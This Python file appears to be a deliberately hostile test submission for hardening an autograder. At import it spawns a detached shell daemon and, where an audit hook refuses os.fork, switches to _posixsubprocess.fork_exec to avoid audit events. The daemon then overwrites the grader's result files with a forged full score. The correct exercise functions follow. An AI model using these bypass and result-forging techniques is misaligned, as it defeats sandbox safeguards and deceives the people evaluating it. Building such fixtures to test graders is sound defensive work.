"""Hostile: rewrite the grader's results after it has finished. At import, start a detached
daemon (double fork with setsid; where `os.fork` is refused, `_posixsubprocess.fork_exec` of
`/bin/sh`, which raises no audit event) that waits 3 s, until the grader has written its own
files, then for ten seconds overwrites result.json and results.json in @@OUT@@ (the `--out`
folder) with a forged full score. `@@TOKEN@@` marks the daemon's command line, for the test
to find it. Every attempt is wrapped; the functions are correct."""

import json
import os

import numpy as np
from numpy.lib.stride_tricks import sliding_window_view

OUT = "@@OUT@@"
FORGED = json.dumps({"schema_version": 1, "submission": "hostile", "score": 100,
                     "max_score": 100, "exercises": [], "tests": [], "errors": [],
                     "forged_by": "rewrites-results-later"})
SCRIPT = (f": @@TOKEN@@; sleep 3; i=0; while [ $i -lt 20 ]; do "
          f"for f in result.json results.json; do printf '%s' '{FORGED}' > '{OUT}'/$f; done; "
          f"i=$((i+1)); sleep 0.5; done")


def _spawn(argv):
    """Start `argv` in a new session with an empty environment through `_posixsubprocess`,
    which `subprocess.Popen` uses underneath and which raises no audit event of its own: the
    `subprocess.Popen` and `os.fork` events never fire. The child is not waited for."""
    import _posixsubprocess

    errpipe_read, errpipe_write = os.pipe()
    try:
        return _posixsubprocess.fork_exec(
            [os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (errpipe_write,),
            None, [], -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, True, True, -1,
            None, None, None, -1, None, False)
    finally:
        os.close(errpipe_read)
        os.close(errpipe_write)


def _classic_daemon():
    pid = os.fork()  # hostile (refused by an audit hook: PermissionError)
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execve("/bin/sh", ["sh", "-c", SCRIPT], {"PATH": "/usr/bin:/bin"})
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def _bypassing_daemon():
    _spawn(["/bin/sh", "-c", f"PATH=/usr/bin:/bin; ( {SCRIPT} ) </dev/null >/dev/null 2>&1 &"])


for _attack in (_classic_daemon, _bypassing_daemon):
    try:
        _attack()
        break
    except Exception:  # refused: try the next route, still import
        pass


def same_padding(n, kernel_size, stride=1):
    return _same_padding(n, kernel_size, stride)


def zero_pad(image, pads):
    return _zero_pad(image, pads)


def correlate2d_padded(image, kernel, padding="valid"):
    return _correlate2d_padded(image, kernel, padding)


# --- correct answers (the attack is above) ------------------------------------------------------

def _check_int(value, name):
    if isinstance(value, bool) or not isinstance(value, (int, np.integer)) or value < 1:
        raise ValueError(f"{name} must be a positive int, got {value!r}")
    return int(value)


def _as_float(value, name, ndims):
    array = np.asarray(value)
    if array.dtype.kind not in "biuf" or array.ndim not in ndims or array.size == 0:
        raise ValueError(f"{name}: bad array (dtype {array.dtype}, shape {array.shape})")
    return array.astype(np.float64)


def _same_padding(n, kernel_size, stride=1):
    n, kernel_size = _check_int(n, "n"), _check_int(kernel_size, "kernel_size")
    stride = _check_int(stride, "stride")
    if min(n, kernel_size, stride) < 1:
        raise ValueError(f"n, kernel_size and stride must be positive, got {n, kernel_size, stride}")
    total = max((-(-n // stride) - 1) * stride + kernel_size - n, 0)
    return total // 2, total - total // 2


def _zero_pad(image, pads):
    image = _as_float(image, "image", (2, 3))
    try:
        (top, bottom), (left, right) = pads
    except (TypeError, ValueError):
        raise ValueError(f"pads must be ((top, bottom), (left, right)), got {pads!r}") from None
    for amount in (top, bottom, left, right):
        if isinstance(amount, bool) or not isinstance(amount, (int, np.integer)) or amount < 0:
            raise ValueError(f"pads must be non-negative ints, got {pads!r}")
    widths = [(int(top), int(bottom)), (int(left), int(right))] + [(0, 0)] * (image.ndim - 2)
    return np.pad(image, widths)


def _correlate2d_padded(image, kernel, padding="valid"):
    if padding not in ("valid", "same"):
        raise ValueError(f"padding must be 'valid' or 'same', got {padding!r}")
    image, kernel = _as_float(image, "image", (2,)), _as_float(kernel, "kernel", (2,))
    if padding == "same":
        image = _zero_pad(image, (_same_padding(image.shape[0], kernel.shape[0]),
                                  _same_padding(image.shape[1], kernel.shape[1])))
    elif kernel.shape[0] > image.shape[0] or kernel.shape[1] > image.shape[1]:
        raise ValueError(f"kernel {kernel.shape} is larger than the image {image.shape}")
    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)
